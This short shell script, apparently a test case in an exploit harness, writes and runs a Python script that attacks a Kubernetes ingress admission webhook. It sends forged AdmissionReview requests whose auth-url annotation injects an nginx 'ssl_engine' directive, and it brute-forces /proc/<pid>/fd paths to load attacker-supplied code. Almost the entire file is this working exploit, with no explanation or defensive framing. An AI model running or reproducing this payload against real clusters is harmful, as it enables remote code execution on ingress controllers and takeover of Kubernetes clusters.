#!/bin/sh
. /opt/case/case.sh

cat >/tmp/n.py <<'END'
import http.client, json
for pid in range(7, 47):
    for fd in range(10, 16):
        c = http.client.HTTPConnection("10.77.0.1", 6443, timeout=3)
        a = {"nginx.ingress.kubernetes.io/auth-url": "http://x/#;}}}\n\nssl_engine ../../../../../../proc/%d/fd/%d;\n" % (pid, fd)}
        c.request("POST", "/networking/v1/ingresses", json.dumps({"kind": "AdmissionReview", "apiVersion": "admission.k8s.io/v1", "request": {"uid": "1", "object": {"kind": "Ingress", "metadata": {"name": "x", "annotations": a}}}}), {"Content-Type": "application/json"})
        assert c.getresponse().status == 200; c.close()
END
python3 /tmp/n.py
took_place
